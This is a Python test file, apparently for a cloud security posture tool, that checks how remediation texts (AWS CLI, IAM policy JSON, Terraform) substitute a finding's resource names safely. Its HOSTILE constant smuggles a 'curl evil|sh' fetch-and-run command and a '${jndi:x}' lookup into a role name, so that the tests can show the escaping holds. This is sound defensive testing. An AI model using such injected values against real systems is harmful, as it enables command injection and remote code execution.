import json
import shlex
from datetime import UTC, datetime

import pytest

from app.core.model.finding import Finding, FindingState, Severity
from app.core.rules.catalogue import catalogue
from app.core.rules.fix import fix_texts
from app.core.rules.rule import Fix

NOW = datetime(2026, 11, 23, tzinfo=UTC)
STREAM = "arn:aws-us-gov:kinesisvideo:us-gov-west-1:111122223333:stream/front-door/1700000000000"
RULE = catalogue().posture["stream_keeps_no_media"]
HOSTILE = "arn:aws:iam::111122223333:role/x';curl\tevil|sh;'\"${jndi:x}<name>"


def finding(subject: str = STREAM, region: str = "us-gov-west-1") -> Finding:
    return Finding(111122223333, "rule", subject, region, Severity.LOW, FindingState.OPEN, "message", (), NOW, NOW)


def texts(fix: Fix, subject: str = STREAM) -> dict[str, str]:
    rule = RULE.__class__(RULE.code, RULE.title, RULE.practice, RULE.severity, (), "", fix, (), RULE.check)
    return {text.title: text.text for text in fix_texts(rule, finding(subject))}


def test_it_fills_in_the_findings_own_names():
    found = texts(Fix("", policy="<partition> <account> <name> <region>", cli="describe <subject>"))

    assert found == {"Policy": "aws-us-gov 111122223333 front-door us-gov-west-1", "AWS CLI": f"describe {STREAM}"}


def test_the_shell_sees_a_hostile_name_as_one_word():
    assert shlex.split(texts(Fix("", cli="aws iam get-role --role-name <name>"), HOSTILE)["AWS CLI"])[4:] == [
        HOSTILE.rpartition("/")[2]
    ]


def test_json_sees_a_hostile_name_as_text():
    assert json.loads(texts(Fix("", policy='{"Resource": "<subject>"}'), HOSTILE)["Policy"]) == {"Resource": HOSTILE}


def test_terraform_evaluates_nothing_in_a_hostile_name():
    assert "$${jndi:x}" in texts(Fix("", terraform='name = "<name>"'), HOSTILE)["Terraform"]


def test_what_a_name_holds_is_not_filled_in_again():
    assert "<name>" in texts(Fix("", terraform='"<subject>"'), HOSTILE)["Terraform"]


@pytest.mark.parametrize("name", catalogue().rules)
def test_each_rules_texts_leave_no_placeholder(name: str):
    for text in fix_texts(catalogue().rules[name], finding()):
        assert not any(
            f"<{word}>" in text.text for word in ("subject", "name", "kind", "account", "region", "partition")
        )


@pytest.mark.parametrize("name", catalogue().rules)
def test_each_rules_policy_is_json(name: str):
    for text in fix_texts(catalogue().rules[name], finding()):
        if text.title == "Policy":
            assert json.loads(text.text)["Version"] == "2012-10-17"
